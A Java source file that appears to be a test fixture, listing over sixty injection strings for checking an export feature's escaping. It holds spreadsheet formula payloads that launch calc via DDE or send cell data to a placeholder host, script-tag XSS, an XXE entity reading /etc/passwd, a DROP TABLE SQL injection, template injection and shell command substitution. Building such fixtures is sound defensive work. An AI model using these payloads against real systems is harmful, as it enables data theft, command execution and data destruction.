package io.closerate.export;

import java.util.ArrayList;
import java.util.List;

/** Sixty and more texts that spreadsheets, pages, queries, XML, Apex or shells would like to take for something else. */
final class Payloads {

    private static final List<String> STARTERS = List.of("=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20");
    private static final List<String> BODIES = List.of("1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.example\",\"a\")",
            "IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", "SUM(A1:A9)", "DDE(\"cmd\";\"/C calc\";\"x\")");
    private static final List<String> OTHERS = List.of("\t=1+1", "a\n=1+1", "a\r\n+1", "\u00a0=1+1", "'=1+1", "\"=1+1", "=1+1\";=2+2",
            "<script>alert(1)</script>", "</script><img src=x onerror=alert(1)>", "<!-- -->", "]]>", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
            "&b;", "&#x3d;1", "'; DROP TABLE leads; --", "\" OR \"1\"=\"1", "\\'; System.debug('x'); //", "*/ alert(1) /*", "${7*7}", "{{7*7}}",
            "#{7*7}", "`id`", "$(id)", "\\u0027", "_x003D_1", "%00", "\\", "\u2028", "a\u202eb", "é\u0301😀");

    private Payloads() {
    }

    static List<String> all() {
        List<String> all = new ArrayList<>();
        STARTERS.forEach(starter -> BODIES.forEach(body -> all.add(starter + body)));
        all.addAll(OTHERS);
        return all;
    }
}
